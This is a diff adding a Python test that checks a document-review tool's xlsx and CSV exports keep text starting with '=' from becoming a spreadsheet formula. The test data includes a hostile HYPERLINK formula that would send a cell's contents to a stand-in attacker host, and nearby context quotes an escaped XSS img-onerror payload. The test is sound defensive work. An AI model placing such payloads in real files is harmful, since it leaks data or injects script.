@@ -354,3 +354,16 @@ def test_report_escapes_what_it_quotes():
     assert "<script" not in page and "<img" not in page and "<b>" not in page and "<i>" not in page
     assert "&lt;img src=x onerror=alert(1)&gt; 99.99% &amp; 4.3 minutes" in page
     assert "javascript:" not in page  # links are quoted into relative paths
+
+
+def test_document_text_never_becomes_a_spreadsheet_formula():
+    """A hostile document's sentence that starts with "=" stays text in both matrices."""
+    from redline.matrix import COLUMNS
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [{k: None for k in COLUMNS} | {"text": evil, "verdict": OK}, {k: None for k in COLUMNS} | {"text": "-5 days", "verdict": OK}]
+    cell = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(rows)))["Commitments"].cell(2, list(COLUMNS).index("text") + 1)
+    assert cell.data_type == "s" and cell.value == evil
+    read = list(csv.DictReader(io.StringIO(matrix_csv(rows))))
+    assert read[0]["text"] == "'" + evil
+    assert read[1]["text"] == "-5 days"  # a negative number is left alone
